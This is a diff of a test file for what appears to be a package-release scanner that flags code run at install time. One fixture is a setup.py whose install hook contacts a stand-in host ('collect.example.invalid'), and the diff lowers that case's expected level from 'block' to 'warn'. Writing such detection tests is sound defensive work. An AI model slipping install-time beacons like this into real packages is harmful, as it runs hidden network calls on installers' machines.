@@ -20,7 +20,7 @@ releaseTest(installTimeExecution, {
             'from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\nclass Install(install):\n    def run(self):\n        urllib.request.urlopen("https://collect.example.invalid")\n        super().run()\nsetup(name="demo", cmdclass={"install": Install})\n',
         }),
       },
-      level: 'block',
+      level: 'warn',
     },
     { name: 'a setup.py that was not there before', given: { base: sdist(), head: setup(BEACON) }, level: 'block' },
     {
